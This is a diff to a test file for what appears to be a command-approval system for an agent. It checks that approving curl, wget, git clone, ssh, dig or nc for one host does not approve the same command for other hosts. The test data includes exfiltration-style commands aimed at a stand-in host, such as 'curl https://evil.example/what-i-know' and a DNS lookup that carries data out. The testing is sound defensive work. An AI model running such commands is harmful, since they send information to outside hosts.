@@ -120,14 +120,22 @@ test("what the person has closed stays closed, and nobody agreed where there is 
   );
 });
 
-test("approving one address for longer was approving every address: the beginning of a command does not say whither", () => {
-  const { offer } = decided("curl -H 'A: b' https://docs.example.org/a");
-  expect(offer?.words).toBe("exactly this command");
-  const earlier: Grant = {
-    type: "uses",
-    uses: [{ words: ["curl"], findings: [] }],
-    profile: "open",
-    contained: false,
-  };
-  expect(decided("curl https://evil.example/what-i-know", { grants: [earlier] }).verdict).toBe("ask");
-});
+test.each([
+  ["curl -H 'A: b' https://docs.example.org/a", ["curl"], "curl https://evil.example/what-i-know"],
+  ["wget -r https://docs.example.org/a", ["wget"], "wget -r https://evil.example/what-i-know"],
+  ["git clone https://docs.example.org/a", ["git", "clone"], "git clone https://evil.example/what-i-know"],
+  ["ssh web1 uptime", ["ssh"], "ssh evil.example what-i-know"],
+  ["dig docs.example.org", ["dig"], "dig what-i-know.evil.example"],
+  ["nc docs.example.org 80", ["nc"], "nc evil.example 80"],
+])(
+  "approving %s for longer was approving every host: its beginning does not say which",
+  (line, words, other) => {
+    expect(decided(line).offer?.words).toBe("exactly this command");
+    const [part] = judgeCommand(other, { ...around, directory: around.workspace }).parts.filter(
+      ({ argv }) => argv?.[0] === words[0],
+    );
+    const findings = (part?.findings ?? []).map(({ because }) => because);
+    const earlier: Grant = { type: "uses", uses: [{ words, findings }], profile: "open", contained: false };
+    expect(decided(other, { grants: [earlier] }).verdict).toBe("ask");
+  },
+);
